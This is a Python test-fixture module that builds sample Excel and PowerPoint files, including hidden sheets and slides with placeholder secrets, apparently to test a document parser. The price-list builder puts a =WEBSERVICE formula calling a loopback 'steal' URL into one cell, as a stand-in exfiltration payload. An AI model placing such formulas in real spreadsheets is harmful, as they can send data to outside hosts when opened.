"""Real XLSX and PPTX files built in the tests with openpyxl and python-pptx, plus ways to make them hostile."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pptx
from pptx.util import Inches


def xlsx_bytes(build: Callable[[Any], None]) -> bytes:
    """A workbook saved by openpyxl after build(workbook) filled it in."""
    book = openpyxl.Workbook()
    build(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def price_list() -> bytes:
    """Two visible sheets with headers, a formula, a date, and a hidden sheet with a secret."""

    def build(book: Any) -> None:
        book.properties.title = "Canteen prices 2026"
        prices = book.active
        prices.title = "Prices"
        prices.append(["Item", "Price (EUR)", "Vegan"])
        prices.append(["Lentil soup", 3.5, True])
        prices.append(["Espresso", 1, False])
        prices.append([None, None, None])  # an empty row is skipped, and numbering goes on
        prices.append(["Tiramisu", 4.25, False])
        prices["D2"] = '=WEBSERVICE("http://127.0.0.1:9/steal")'  # a formula: never evaluated, never fetched
        hours = book.create_sheet("Opening hours")
        hours.append(["Day", "Opens", "Closes"])
        hours.append(["Monday", "08:00", "16:30"])
        secret = book.create_sheet("Salaries")
        secret.append(["Name", "Salary"])
        secret.append(["Zoe", "hidden-salary-figure"])
        secret.sheet_state = "hidden"

    return xlsx_bytes(build)


def pptx_bytes(build: Callable[[Any], None]) -> bytes:
    """A presentation saved by python-pptx after build(presentation) filled it in."""
    deck = pptx.Presentation()
    build(deck)
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def onboarding_deck() -> bytes:
    """Three slides (title + bullets, a table, notes), a grouped text box, and a slide hidden from the show."""

    def build(deck: Any) -> None:
        first = deck.slides.add_slide(deck.slide_layouts[1])
        first.shapes.title.text = "Welcome aboard"
        first.placeholders[1].text = "Badges are collected at the front desk on day one."
        second = deck.slides.add_slide(deck.slide_layouts[5])
        second.shapes.title.text = "Who to call"
        table = second.shapes.add_table(3, 2, Inches(1), Inches(2), Inches(6), Inches(2)).table
        for r, (a, b) in enumerate([("Team", "Extension"), ("IT helpdesk", "4242"), ("Facilities", "5151")]):
            table.cell(r, 0).text, table.cell(r, 1).text = a, b
        group = second.shapes.add_group_shape()
        group.shapes.add_textbox(Inches(1), Inches(5), Inches(4), Inches(1)).text_frame.text = "Grouped parking tip"
        third = deck.slides.add_slide(deck.slide_layouts[1])
        third.shapes.title.text = "Holidays"
        third.placeholders[1].text = "Twenty-five days a year."
        third.notes_slide.notes_text_frame.text = "Remind them to book leave in the HR portal."
        hidden = deck.slides.add_slide(deck.slide_layouts[1])
        hidden.shapes.title.text = "Draft reorganisation"
        hidden.placeholders[1].text = "secret-reorg-plan"
        hidden._element.set("show", "0")

    return pptx_bytes(build)
